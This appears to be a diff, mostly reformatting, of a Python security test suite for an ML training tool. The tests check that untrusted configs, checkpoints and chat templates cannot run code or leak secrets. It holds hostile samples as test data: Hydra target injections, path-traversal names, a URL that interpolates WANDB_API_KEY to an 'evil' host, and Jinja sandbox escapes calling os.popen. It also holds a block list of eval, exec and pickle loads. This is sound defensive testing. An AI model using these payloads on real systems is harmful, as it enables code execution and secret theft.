-            OmegaConf.update(wrapped := OmegaConf.create(content), place.replace("__", "."), value, merge=False, force_add=True)
+            OmegaConf.update(
+                wrapped := OmegaConf.create(content),
+                place.replace("__", "."),
+                value,
+                merge=False,
+                force_add=True,
+            )
             content = OmegaConf.to_container(wrapped)
         (path / "run.yaml").write_text(yaml.safe_dump(content))
         return path
@@ -372,46 +694,86 @@ MAKES = {"_target_": "os.makedirs", "name": "canary"}
 FOLDERS = {
     "a target": ({"config__base": MAKES}, ONLY),
     "a target in a mapping": ({"config__task__columns": {"a": MAKES}}, ONLY),
-    "a shipped target in a mapping": ({"config__task__columns": {"a": {"_target_": "trainer.models.tiny.tiny"}}}, NOWHERE),
-    "a target and its own schema": (
-        {"config__base": MAKES, "identity__choices__base": "../../../../../../../../CANARY/../evil"}, ONLY,
+    "a shipped target in a mapping": (
+        {"config__task__columns": {"a": {"_target_": "trainer.models.tiny.tiny"}}},
+        NOWHERE,
     ),
-    "its own schema": ({"identity__choices__base": "../../../../../../../../CANARY/../evil"}, "conf/base has hf,"),
+    "a target and its own schema": (
+        {
+            "config__base": MAKES,
+            "identity__choices__base": "../../../../../../../../CANARY/../evil",
+        },
+        ONLY,
+    ),
+    "its own schema": (
+        {"identity__choices__base": "../../../../../../../../CANARY/../evil"},
+        "conf/base has hf,",
+    ),
     "an unknown choice": ({"identity__choices__adapter": "evil"}, "conf/adapter has adalora,"),
     "choices of another kind": ({"identity__choices": "evil"}, "is not what a run writes"),
     "no identity": ({"identity": None}, "is not what a run writes"),
     "a config of another kind": ({"config": ["evil"]}, "is not what a run writes"),
-    "an interpolated secret": ({"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"}, VARIABLE),
+    "an interpolated secret": (
+        {"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"},
+        VARIABLE,
+    ),
     "a call": ({"config__task__columns": {"a": "${oc.create:{_target_: os.makedirs}}"}}, RESOLVER),
     "a name that is a path": ({"config__name": "../../canary"}, "name is '../../canary'"),
     "partial": ({"config__adapter___partial_": True}, THERE),
     "a drafter": ({"config__drafter": MAKES}, ONLY),
-    "a drafter's part": ({"config__drafter": {"loss": MAKES}, "identity__choices__drafter": "medusa"}, ONLY),
-    "a shipped target for a drafter": (
-        {"config__drafter": {"_target_": "trainer.models.tiny.tiny"}, "identity__choices__drafter": "medusa"}, THERE,
+    "a drafter's part": (
+        {"config__drafter": {"loss": MAKES}, "identity__choices__drafter": "medusa"},
+        ONLY,
     ),
-    "another drafter's file": ({"identity__choices__drafter": "../../evil"}, "conf/drafter has eagle,"),
+    "a shipped target for a drafter": (
+        {
+            "config__drafter": {"_target_": "trainer.models.tiny.tiny"},
+            "identity__choices__drafter": "medusa",
+        },
+        THERE,
+    ),
+    "another drafter's file": (
+        {"identity__choices__drafter": "../../evil"},
+        "conf/drafter has eagle,",
+    ),
     "a penalty": ({"config__penalty": MAKES}, ONLY),
     "a branch": ({"config__branch": MAKES, "identity__choices__branch": "cooldown"}, ONLY),
-    "a branch's run": ({"config__branch": {"run": MAKES}, "identity__choices__branch": "cooldown"}, ONLY),
-    "another branch's file": ({"identity__choices__branch": "../../evil"}, "conf/branch has cooldown,"),
+    "a branch's run": (
+        {"config__branch": {"run": MAKES}, "identity__choices__branch": "cooldown"},
+        ONLY,
+    ),
+    "another branch's file": (
+        {"identity__choices__branch": "../../evil"},
+        "conf/branch has cooldown,",
+    ),
     "a target's run": ({"config__target__run": MAKES}, ONLY),
-    "a shipped target for a target": ({"config__target__run": {"_target_": "trainer.models.tiny.tiny"}}, NOWHERE),
+    "a shipped target for a target": (
+        {"config__target__run": {"_target_": "trainer.models.tiny.tiny"}},
+        NOWHERE,
+    ),
     "a target's features": ({"config__target__features": "${oc.env:WANDB_API_KEY}"}, VARIABLE),
     "another target's file": ({"identity__choices__target": "../../evil"}, "conf/target has "),
     "a callback": ({"config__callbacks__own": MAKES}, ONLY),
     "a logger": ({"config__logger": {"own": MAKES}}, ONLY),
     "Lightning's plugin": ({"config__lightning__plugins": [MAKES]}, ONLY),
-    "a model's own code": ({"config__base__trust_remote_code": True}, "export GRAFT_TRUST_REMOTE_CODE=true"),
-    "a repository's attention": ({"config__base__attn_implementation": "evil/kernel"}, "Attention is one of transformers' own"),
-}  # fmt: skip
+    "a model's own code": (
+        {"config__base__trust_remote_code": True},
+        "export GRAFT_TRUST_REMOTE_CODE=true",
+    ),
+    "a repository's attention": (
+        {"config__base__attn_implementation": "evil/kernel"},
+        "Attention is one of transformers' own",
+    ),
+}
 
 
 @pytest.mark.parametrize("case", FOLDERS)
 def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
     parts, said = FOLDERS[case]
     place = folder(**json.loads(json.dumps(parts).replace("CANARY", str(canary.parent))))
-    (canary.parent.parent / "evil.yaml").write_text("_target_: os.makedirs\nname: canary  # str: canary\n")
+    (canary.parent.parent / "evil.yaml").write_text(
+        "_target_: os.makedirs\nname: canary  # str: canary\n"
+    )
     for verb in VERBS.values():
         assert verb(place) == 2
         assert said in capsys.readouterr().err
@@ -429,7 +791,9 @@ def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
         ("a: &a [*a]\n", "stands within itself"),
         ("- " * 5000 + "x", "nested more than 64 levels"),
         (
-            "\n".join(["- &a0 [x]", *(f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 30))]),
+            "\n".join(
+                ["- &a0 [x]", *(f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 30))]
+            ),
             "more than 400,000 values",
         ),
     ],
@@ -465,7 +829,9 @@ def test_a_checkpoint_with_code_is_refused(tmp_path, canary, layout):
     manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
     path.with_suffix(".json").write_text(json.dumps(manifest))
     assert checkpoints.newest(tmp_path) == path  # it is as it was written
-    with pytest.raises(CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"):
+    with pytest.raises(
+        CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"
+    ):
         checkpoints.load(path)
 
 
@@ -480,7 +846,9 @@ def test_a_strangers_checkpoint_in_a_good_folder(folder, canary, capsys):
         assert "it is no checkpoint" in capsys.readouterr().err
 
 
-@pytest.mark.parametrize("which", ["../../evil", "/evil", "1/../2", "-1", "1.0", "²", "best/../x", "0x1"])
+@pytest.mark.parametrize(
+    "which", ["../../evil", "/evil", "1/../2", "-1", "1.0", "²", "best/../x", "0x1"]
+)
 def test_a_checkpoints_name_is_no_path(folder, canary, capsys, which):
     assert VERBS["generate"](f"{folder()}@{which}") == 1
     assert "no checkpoint" in capsys.readouterr().err
@@ -488,7 +856,13 @@ def test_a_checkpoints_name_is_no_path(folder, canary, capsys, which):
 
 def test_a_page_from_a_strangers_folder_runs_no_script(folder, canary):
     script = "<script>alert(1)</script>"
-    start = {"command": script, "time": script, "host": script, "git": script, "versions": {script: script}}
+    start = {
+        "command": script,
+        "time": script,
+        "host": script,
+        "git": script,
+        "versions": {script: script},
+    }
     place = folder(name=script, config__task__system=script, starts=[start])
     page = report_html.write(place).read_text()
     assert "<script" not in page
@@ -502,9 +876,13 @@ def test_no_byte_of_a_run_holds_a_secret(program, tmp_path):
         subprocess.run(["git", *words], cwd=tmp_path, check=True)
     visible = "a note that is meant to be seen"
     done = program(
-        *COMMON, "logger=[wandb,tensorboard]", "logger.wandb.mode=offline", f"logger.wandb.notes='{visible}'", "max_steps=2",
+        *COMMON,
+        "logger=[wandb,tensorboard]",
+        "logger.wandb.mode=offline",
+        f"logger.wandb.notes='{visible}'",
+        "max_steps=2",
         env=SECRETS | {"HOME": str(tmp_path)},
-    )  # fmt: skip
+    )
     assert done.returncode == 0, done.stdout + done.stderr
     run = tmp_path / "runs" / "smoke"
     written = {
@@ -514,8 +892,15 @@ def test_no_byte_of_a_run_holds_a_secret(program, tmp_path):
     }
     (upload,) = run.glob("wandb/offline-run-*/*.wandb")
     assert visible.encode() in written[upload]  # so that what W&B would upload can be searched
-    assert {"run.yaml", "trainer.log", "metrics.jsonl", "report.html"} <= {path.name for path in written}
-    for secret in [*SECRETS.values(), "canaryCANARY", "remoteCANARY", SECRETS["WANDB_API_KEY"][:20]]:
+    assert {"run.yaml", "trainer.log", "metrics.jsonl", "report.html"} <= {
+        path.name for path in written
+    }
+    for secret in [
+        *SECRETS.values(),
+        "canaryCANARY",
+        "remoteCANARY",
+        SECRETS["WANDB_API_KEY"][:20],
+    ]:
         assert [path for path, content in written.items() if secret.encode() in content] == []
         assert secret not in done.stdout + done.stderr
 
@@ -544,11 +929,16 @@ def test_no_byte_of_a_run_holds_a_secret(program, tmp_path):
         "++task.columns={credentials: quiet}",
     ],
 )
-def test_what_looks_like_a_secret_is_refused_before_anything_is_written(refused, canary, monkeypatch, override):
+def test_what_looks_like_a_secret_is_refused_before_anything_is_written(
+    refused, canary, monkeypatch, override
+):
     for name in ("SOME_PASSWORD", "AWS_SECRET_ACCESS_KEY"):
         monkeypatch.setenv(name, SECRETS[name])
     message = refused(*COMMON, "logger=wandb", override)
-    assert "looks like a secret. Configs are logged: export it" in message or "which is a secret by its name" in message
+    assert (
+        "looks like a secret. Configs are logged: export it" in message
+        or "which is a secret by its name" in message
+    )
     assert not any(part in message for part in (*SECRETS.values(), "quiet", "sk-abc", "ghp_"))
     assert [path.name for path in canary.parent.iterdir()] == []
 
@@ -637,14 +1027,28 @@ def test_a_bases_own_code_is_not_run(copied, canary, file):
 
 
 @pytest.mark.parametrize(
-    "key", ["_attn_implementation_internal", "_attn_implementation", "attn_implementation", "_experts_implementation"]
+    "key",
+    [
+        "_attn_implementation_internal",
+        "_attn_implementation",
+        "attn_implementation",
+        "_experts_implementation",
+    ],
 )
 def test_a_bases_config_fetches_no_code(copied, key):
     file = copied / "config.json"
     plain = json.loads(file.read_text())
-    for content in ({key: "evil/kernel"}, {key: {"": "evil/kernel"}}, {"text_config": {key: "evil/kernel"}}):
+    for content in (
+        {key: "evil/kernel"},
+        {key: {"": "evil/kernel"}},
+        {"text_config": {key: "evil/kernel"}},
+    ):
         file.write_text(json.dumps(plain | content))
-        for way in (lambda found: found.config, lambda found: found.skeleton(), lambda found: found.load(torch.float32)):
+        for way in (
+            lambda found: found.config,
+            lambda found: found.skeleton(),
+            lambda found: found.load(torch.float32),
+        ):
             with pytest.raises(base.BaseError, match="would fetch code from there"):
                 way(of_folder(copied))
 
@@ -684,20 +1088,38 @@ def calls(tree):
     for node in ast.walk(tree):
         if isinstance(node, ast.Call):
             kept = ("shell", "weights_only", "Loader")
-            yield dotted(node.func), {word.arg: ast.unparse(word.value) for word in node.keywords if word.arg in kept}
+            yield (
+                dotted(node.func),
+                {word.arg: ast.unparse(word.value) for word in node.keywords if word.arg in kept},
+            )
 
 
 def test_no_file_of_ours_loads_a_pickle_or_asks_a_shell():
     """Every way to read code as data, wherever it may be written one day."""
     seen = 0
-    for file in [path for name in ("adapters", "tasks", "trainer") for path in (ROOT / name).rglob("*.py")]:
+    for file in [
+        path for name in ("adapters", "tasks", "trainer") for path in (ROOT / name).rglob("*.py")
+    ]:
         for name, words in calls(ast.parse(file.read_text("utf-8"))):
             last = name.rpartition(".")[2]
-            assert name not in ("eval", "exec", "compile", "os.system", "os.popen", "yaml.unsafe_load", "yaml.full_load"), file
-            assert not name.startswith(("pickle.load", "dill.", "marshal.", "shelve.", "joblib.", "np.load", "numpy.load")), (
-                file
-            )
-            assert last not in ("extractall", "unpack_archive", "load_from_disk", "read_pickle"), file
+            assert name not in (
+                "eval",
+                "exec",
+                "compile",
+                "os.system",
+                "os.popen",
+                "yaml.unsafe_load",
+                "yaml.full_load",
+            ), file
+            assert not name.startswith(
+                ("pickle.load", "dill.", "marshal.", "shelve.", "joblib.", "np.load", "numpy.load")
+            ), file
+            assert last not in (
+                "extractall",
+                "unpack_archive",
+                "load_from_disk",
+                "read_pickle",
+            ), file
             assert words.get("shell", "False") == "False", file
             if name == "torch.load":
                 seen += 1
@@ -708,30 +1130,46 @@ def test_no_file_of_ours_loads_a_pickle_or_asks_a_shell():
 
 
 TEMPLATES = [
-    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ lipsum.__globals__['os'].popen('touch canary') }}",
-    "{{ cycler.__init__.__globals__.os.system('touch canary') }}", "{{ '{0.__class__.__init__.__globals__}'.format(strftime_now) }}",
-    "{% include 'evil.jinja' %}", "{% import 'evil.jinja' as x %}", "{% extends '/etc/passwd' %}", "{% set _ = messages.append(1) %}",
-    "{{ range(10**0 * 9) }}".replace("10**0 * 9", "999999999"), "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
-    "{% set n = namespace(__class__=1) %}", "{{ raise_exception('no') }}",
-]  # fmt: skip
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ lipsum.__globals__['os'].popen('touch canary') }}",
+    "{{ cycler.__init__.__globals__.os.system('touch canary') }}",
+    "{{ '{0.__class__.__init__.__globals__}'.format(strftime_now) }}",
+    "{% include 'evil.jinja' %}",
+    "{% import 'evil.jinja' as x %}",
+    "{% extends '/etc/passwd' %}",
+    "{% set _ = messages.append(1) %}",
+    "{{ range(10**0 * 9) }}".replace("10**0 * 9", "999999999"),
+    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
+    "{% set n = namespace(__class__=1) %}",
+    "{{ raise_exception('no') }}",
+]
 
 
 @pytest.mark.parametrize("source", TEMPLATES)
 def test_a_template_runs_no_code(tiny, canary, source):
-    chat = Conversation([{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1")
+    chat = Conversation(
+        [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1"
+    )
     (canary.parent / "evil.jinja").write_text(source)
     with pytest.raises(Refused, match="the chat template refuses it"):
         Renderer(
-            tiny.tokenizer, SimpleNamespace(kind="conversation", labels=[], chat_template=str(canary.parent / "evil.jinja"))
+            tiny.tokenizer,
+            SimpleNamespace(
+                kind="conversation", labels=[], chat_template=str(canary.parent / "evil.jinja")
+            ),
         )(chat)
 
 
 def test_a_template_without_end_is_stopped(tiny, canary, monkeypatch):
     monkeypatch.setattr("trainer.data.render.RENDERED_WITHIN", 0.2)
-    chat = Conversation([{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1")
+    chat = Conversation(
+        [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}], "rows:1"
+    )
     file = canary.parent / "evil.jinja"
     task = SimpleNamespace(kind="conversation", labels=[], chat_template=str(file))
-    file.write_text("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}")
+    file.write_text(
+        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
+    )
     with pytest.raises(DataError, match=r"rendering a row has not ended after 0\.2 s"):
         Renderer(tiny.tokenizer, task)(chat)
     for source in ("{{ 9**9**9 }}", "{{ 1 | round(-9999999999) }}"):
@@ -744,11 +1182,16 @@ def test_a_run_folder_whose_links_lead_out_is_refused(folder, canary, capsys):
     place = folder()
     (canary.parent / "other").mkdir()
     for name in ("metrics.csv", "adapter", "checkpoints/step-00000002.ckpt.tmp"):
-        (shutil.rmtree if (place / name).is_dir() else lambda path: path.unlink(missing_ok=True))(place / name)
+        (shutil.rmtree if (place / name).is_dir() else lambda path: path.unlink(missing_ok=True))(
+            place / name
+        )
         (place / name).symlink_to(canary if "." in name else canary.parent / "other")
         for verb in VERBS.values():
             assert verb(place) == 2
-            assert f"{place / name} is a link that leads out of the run folder" in capsys.readouterr().err
+            assert (
+                f"{place / name} is a link that leads out of the run folder"
+                in capsys.readouterr().err
+            )
         with pytest.raises(FolderError, match="leads out of the run folder"):
             RunFolder.create(place)
         (place / name).unlink()
@@ -762,7 +1205,10 @@ def test_a_jobs_script_holds_no_secret(canary, monkeypatch, capsys):
     assert submit.main(words) == 0
     said = capsys.readouterr()
     assert "#SBATCH" in said.out
-    for more in (f"slurm.extra=['--comment={SECRETS['HF_TOKEN']}']", f"slurm.setup=['export K={SECRETS['SOME_PASSWORD']}']"):
+    for more in (
+        f"slurm.extra=['--comment={SECRETS['HF_TOKEN']}']",
+        f"slurm.setup=['export K={SECRETS['SOME_PASSWORD']}']",
+    ):
         assert submit.main([*words, more]) == 2
         refused = capsys.readouterr()
         said = type(said)(said.out + refused.out, said.err + refused.err)
